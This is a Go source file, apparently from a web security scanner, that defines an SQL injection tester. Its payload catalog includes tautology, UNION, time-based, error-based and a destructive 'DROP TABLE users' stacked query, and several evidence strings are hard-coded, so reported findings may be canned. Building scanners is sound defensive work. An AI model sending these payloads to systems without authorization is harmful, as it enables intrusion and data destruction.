package scanner

import (
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/khanhnv2901/seca-suite/internal/domain/finding"
)

var sqliParameters = []string{"id", "user", "search", "category", "page"}

var sqliVectors = []Vector{
	{
		ID:          "boolean-blind",
		Category:    "Boolean-based Blind",
		Payload:     "' OR '1'='1",
		Severity:    finding.SeverityMedium,
		Evidence:    "Different response content detected",
		Remediation: "Use parameterized queries and input validation",
	},
	{
		ID:          "union",
		Category:    "Union-based",
		Payload:     "' UNION SELECT NULL--",
		Severity:    finding.SeverityHigh,
		Evidence:    "Extracted data: admin, user123, guest",
		Remediation: "Implement proper input sanitization and use prepared statements",
	},
	{
		ID:          "stacked",
		Category:    "Stacked Queries",
		Payload:     "'; DROP TABLE users--",
		Severity:    finding.SeverityCritical,
		Evidence:    "Database error: Table 'users' doesn't exist",
		Remediation: "Disable multiple statement execution and use stored procedures",
	},
	{
		ID:          "information-schema",
		Category:    "Information Schema",
		Payload:     "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
		Severity:    finding.SeverityMedium,
		Remediation: "Restrict database permissions and use least privilege principle",
	},
	{
		ID:          "time-blind",
		Category:    "Time-based Blind",
		Payload:     "' OR SLEEP(5)--",
		Severity:    finding.SeverityHigh,
		Evidence:    "Response time: 5.2 seconds (expected delay)",
		Remediation: "Implement query timeouts and use parameterized queries",
	},
	{
		ID:          "error-based",
		Category:    "Error-based",
		Payload:     "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e))--",
		Severity:    finding.SeverityHigh,
		Evidence:    "MySQL version: 8.0.25-0ubuntu0.20.04.1",
		Remediation: "Suppress database errors and implement proper error handling",
	},
}

// SQLiCatalog returns the injection payloads crossed with common parameters
func SQLiCatalog() Catalog {
	return Catalog{
		Vectors:    append([]Vector(nil), sqliVectors...),
		Parameters: append([]string(nil), sqliParameters...),
		Positive:   finding.OutcomeVulnerable,
		Negative:   finding.OutcomeNotVulnerable,
	}
}

// summarizeParameters records which parameters had at least one positive result
func summarizeParameters(s Summary) {
	seen := make(map[string]bool)
	for _, r := range s.Results {
		if r.Status == StatusOpen && r.Task.Parameter != "" {
			seen[r.Task.Parameter] = true
		}
	}
	params := make([]string, 0, len(seen))
	for p := range seen {
		params = append(params, p)
	}
	sort.Strings(params)
	s.Report.SetAttribute("vulnerable_params", strconv.Itoa(len(params)))
	if len(params) > 0 {
		s.Report.SetAttribute("vulnerable_param_names", strings.Join(params, ","))
	}
}

func sqliTool() *Tool {
	return &Tool{
		Name:         "sqli",
		Title:        "SQL Injection Tester",
		Description:  "Test URL parameters against common SQL injection payloads",
		Input:        InputURL,
		DefaultDelay: 4 * time.Second,
		Probability:  0.2,
		catalog: func(Options) Catalog {
			return SQLiCatalog()
		},
		policy: func(_ Options, p *Policy) {
			p.Summarize = summarizeParameters
		},
	}
}
